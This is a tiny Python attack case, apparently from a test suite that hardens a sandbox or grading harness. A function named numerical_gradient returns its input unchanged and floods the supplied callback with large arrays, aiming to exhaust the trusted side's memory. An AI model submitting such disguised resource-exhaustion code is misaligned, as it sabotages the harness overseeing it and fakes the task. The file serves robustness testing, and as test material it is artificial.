# ATTACK: p_callback_memory
# GROUP: protocol
# GOAL: call the given function with large arrays, each of which the suite's recorder keeps
# SUCCESS: the trusted side grows by more than 300 MiB
# CHECK: hang
# EARNED: 0
# BASE: none
import numpy as np
def numerical_gradient(f, x):
    large = np.ones(1 << 20)
    for _ in range(400):
        try:
            f(large)
        except Exception:
            pass
    return x
